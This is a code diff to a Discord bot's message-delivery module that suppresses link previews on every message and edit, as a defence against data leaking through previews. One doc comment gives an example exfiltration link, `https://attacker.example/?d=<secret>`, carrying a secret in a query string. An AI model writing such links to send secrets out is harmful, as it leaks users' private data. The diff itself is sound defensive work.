@@ -1,4 +1,4 @@
-import { ActionRowBuilder, ButtonBuilder, ButtonStyle, escapeMarkdown, Routes, type REST } from "discord.js";
+import { ActionRowBuilder, ButtonBuilder, ButtonStyle, escapeMarkdown, MessageFlags, Routes, type REST } from "discord.js";
 import { AnswerDraft, type DraftStep } from "../../core/answer-draft.js";
 import type { AnswerEvent } from "../../core/answer-events.js";
 import type { ChatRequest } from "../../core/chat-request.js";
@@ -36,6 +36,11 @@ const TABLE_CHARS = 1200;
 const STEP_LINE_CHARS = 140;
 /** No message of the bot pings anyone: not @everyone, not roles, not users. */
 const NO_PINGS = { parse: [] as string[] };
+/**
+ * Every message and edit carries SuppressEmbeds: a link the model or the sandbox wrote
+ * (`https://attacker.example/?d=<secret>`) gets no preview, so Discord's servers fetch nothing.
+ */
+const NO_EMBEDS = MessageFlags.SuppressEmbeds;
 
 interface MessageBody {
   content: string;
@@ -77,7 +82,7 @@ function draftContent(draft: AnswerDraft): string {
  * a status message with a Stop button that becomes the answer's first part, the rest split under
  * 2,000 characters (at most four messages: a longer answer comes as answer.md with a preview),
  * charts and files as attachments (10 per message, oversize ones refused). Every text passes
- * discordSafeText last, and allowed_mentions stays empty.
+ * discordSafeText last, allowed_mentions stays empty, and no link gets a preview (SuppressEmbeds).
  */
 export class DiscordDelivery implements Delivery {
   private readonly statusMessages = new Map<string, string>();
@@ -181,7 +186,7 @@ export class DiscordDelivery implements Delivery {
       try {
         if (paced) await this.pace.turn(id);
         else this.pace.mark(id);
-        await this.rest.patch(Routes.channelMessage(request.conversation.channelId, id), { body: { ...body, allowed_mentions: NO_PINGS } });
+        await this.rest.patch(Routes.channelMessage(request.conversation.channelId, id), { body: { ...body, allowed_mentions: NO_PINGS, flags: NO_EMBEDS } });
         this.statusMessages.set(request.eventId, id);
         return;
       } catch (error) {
@@ -196,6 +201,7 @@ export class DiscordDelivery implements Delivery {
     const payload = {
       ...body,
       allowed_mentions: NO_PINGS,
+      flags: NO_EMBEDS,
       ...(files.length ? { attachments: files.map((file, i) => ({ id: i, filename: file.name })) } : {}),
     };
     return (await this.rest.post(Routes.channelMessages(request.conversation.channelId), {
